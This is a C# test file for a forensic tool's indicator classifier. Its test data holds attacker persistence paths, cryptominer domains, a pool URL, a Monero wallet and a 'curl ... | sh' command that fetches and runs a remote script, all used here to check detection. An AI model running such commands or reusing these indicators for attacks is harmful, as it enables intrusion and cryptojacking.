using CaseManager.Domain.Evidence;
using CaseManager.Infrastructure.Analysis.Platform;

namespace CaseManager.Infrastructure.IntegrationTests.Analysis.Platform;

/// <summary>The ordinary is folded away; what a consultant must see is not.</summary>
public sealed class IndicatorRelevanceTests
{
    private readonly IndicatorRelevanceRules _rules = new();

    [Theory]
    [InlineData("/etc/security/ntps.conf", IndicatorRelevance.Suspicious)]
    [InlineData("/tmp/.x/kworker", IndicatorRelevance.Suspicious)]
    [InlineData("/dev/shm/xmrig", IndicatorRelevance.Suspicious)]
    [InlineData("/etc/cron.d/sysupdate", IndicatorRelevance.Suspicious)]
    [InlineData("/etc/ld.so.preload", IndicatorRelevance.Suspicious)]
    [InlineData("/root/.ssh/authorized_keys", IndicatorRelevance.Suspicious)]
    [InlineData("/usr/bin", IndicatorRelevance.Context)]
    [InlineData("/usr/lib/x86_64-linux-gnu/libc.so.6", IndicatorRelevance.Context)]
    [InlineData("/lib64/ld-linux-x86-64.so.2", IndicatorRelevance.Context)]
    [InlineData("/etc/ld.so.cache", IndicatorRelevance.Context)]
    [InlineData("/root/.pyenv/shims", IndicatorRelevance.Context)]
    [InlineData("/root/.pyenv", IndicatorRelevance.Context)]
    [InlineData("/etc/ssl/certs/ca-certificates.crt", IndicatorRelevance.Context)]
    [InlineData("/root/.bashrc", IndicatorRelevance.Suspicious)]
    [InlineData("/home/dev/.cargo/bin", IndicatorRelevance.Context)]
    [InlineData("/usr/local/sbin", IndicatorRelevance.Context)]
    [InlineData(@"C:\Windows\System32\kernel32.dll", IndicatorRelevance.Context)]
    [InlineData(@"C:\Users\bob\AppData\Roaming\svchost.exe", IndicatorRelevance.Suspicious)]
    public void Paths(string path, IndicatorRelevance expected) => _rules.Classify(IndicatorType.FilePath, path).ShouldBe(expected);

    [Theory]
    [InlineData(IndicatorType.Domain, "sjb555.3322.org", IndicatorRelevance.Malicious)]
    [InlineData(IndicatorType.Domain, "xmr.pool.minergate.com", IndicatorRelevance.Malicious)]
    [InlineData(IndicatorType.Domain, "deb.debian.org", IndicatorRelevance.Context)]
    [InlineData(IndicatorType.Domain, "security.ubuntu.com", IndicatorRelevance.Context)]
    [InlineData(IndicatorType.Domain, "evil-updates.example", IndicatorRelevance.Suspicious)]
    [InlineData(IndicatorType.Url, "http://files.pythonhosted.org/packages/x.whl", IndicatorRelevance.Context)]
    [InlineData(IndicatorType.Url, "http://sjb555.3322.org/x.sh", IndicatorRelevance.Malicious)]
    [InlineData(IndicatorType.Url, "stratum+tcp://203.0.113.9:3333", IndicatorRelevance.Malicious)]
    [InlineData(IndicatorType.Ip, "192.168.1.20", IndicatorRelevance.Context)]
    [InlineData(IndicatorType.Ip, "127.0.0.1", IndicatorRelevance.Context)]
    [InlineData(IndicatorType.Ip, "fe80::1", IndicatorRelevance.Context)]
    [InlineData(IndicatorType.Ip, "203.0.113.9", IndicatorRelevance.Suspicious)]
    [InlineData(IndicatorType.Wallet, "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", IndicatorRelevance.Malicious)]
    [InlineData(IndicatorType.Command, "curl -s http://x/y.sh | sh", IndicatorRelevance.Malicious)]
    [InlineData(IndicatorType.Ja3, "e7d705a3286e19ea42f587b344ee6865", IndicatorRelevance.Context)]
    public void HostsAndValues(IndicatorType type, string value, IndicatorRelevance expected) => _rules.Classify(type, value).ShouldBe(expected);
}
